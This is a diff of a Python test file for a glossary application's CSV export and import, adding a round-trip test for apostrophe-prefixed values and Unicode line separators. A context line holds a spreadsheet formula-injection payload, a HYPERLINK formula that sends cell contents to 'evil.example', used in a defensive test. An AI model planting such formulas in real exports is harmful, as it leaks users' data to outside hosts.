@@ -144,3 +144,18 @@ def test_the_csv_export_never_starts_a_cell_with_a_formula_and_imports_back_unch
     exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
     assert records(db, other.id) == records(db, world.partnership_id)
     assert entries.find_entry(db, other.id, "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")") is not None
+
+
+def test_apostrophes_and_unicode_line_separators_survive_a_csv_round_trip(db, world):
+    tricky = [
+        {"term": "'-x", "definition": "''=y", "scope": "'gewoon", "notes": "'+1"},
+        {"term": "scheiding", "definition": "Tekst\u2028met regelscheiding.",
+         "examples": ["een\u2028twee", "drie\u2029vier"], "synonyms": ["a\u0085b"]},
+    ]
+    for data in tricky:
+        entries.create_entry(db, world.facilitator_id, world.partnership_id, data)
+    exported = exports.export(db, world.partnership_id, "csv").content
+    other = partnerships.create_partnership(db, world.facilitator_id, "Regio West", ["A"])
+    exports.apply_import(db, world.facilitator_id, other.id, exported, "csv")
+    assert records(db, other.id) == records(db, world.partnership_id)
+    assert entries.find_entry(db, other.id, "'-x") is not None
